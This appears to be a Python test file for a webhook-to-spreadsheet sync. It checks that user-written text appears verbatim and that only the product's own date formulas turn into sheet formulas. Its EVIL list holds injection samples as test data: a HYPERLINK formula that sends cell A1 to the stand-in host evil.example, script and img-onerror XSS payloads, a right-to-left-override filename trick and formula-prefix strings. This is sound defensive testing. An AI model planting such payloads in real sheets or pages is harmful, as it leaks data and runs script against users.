"""What people and programs write is text, from the webhook to the eye: no formula, no page."""

import re
from collections.abc import Iterator
from typing import Any

import requests

from emulator import Emulator
from tests.bench import Bench
from tests.made_up import comment, document, milestone, task, uuid

AGE = re.compile(r"=TODAY\(\)-\d+")
"""The product's own formulas."""
EVIL = [
    '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
    '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "\u202egpj.exe\u202c\U0001f469\u200d\U0001f680",
    "+1+1",
    "@SUM(A1)",
    "'=1",
]


def webhook(job: int, evil: str) -> dict[str, Any]:
    """A milestone that says `evil` wherever somebody may write."""
    return milestone(
        job,
        job,
        name=evil,
        status=evil,
        comments=[comment(evil, "2026-03-01T10:00:00Z", "ada@installer.example")],
        tasks=[task(document(job, evil), name=evil)],
    )


def formulas_in(tree: Any) -> Iterator[str]:
    if isinstance(tree, dict):
        if "formulaValue" in tree.get("userEnteredValue", {}):
            yield tree["userEnteredValue"]["formulaValue"]
        tree = list(tree.values())
    if isinstance(tree, list):
        for inner in tree:
            yield from formulas_in(inner)


def test_text_is_shown_as_it_was_sent(google: Emulator, sqlite_url: str) -> None:
    bench = Bench(google, sqlite_url)
    bench.shown(*(webhook(job, evil) for job, evil in enumerate(EVIL)))
    for job, evil in enumerate(EVIL):
        row = bench.row(uuid(job))
        assert evil in row["Last comment"]
        assert row["Status"].startswith(evil[:10])
        assert evil in row[f"{evil} documents"]
    formulas = list(formulas_in(bench.book("*")))
    assert formulas
    assert [one for one in formulas if not AGE.fullmatch(one)] == []
    page = requests.get(f"{google.url}/spreadsheets/d/{bench.spreadsheet}", timeout=10)
    assert page.ok
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text
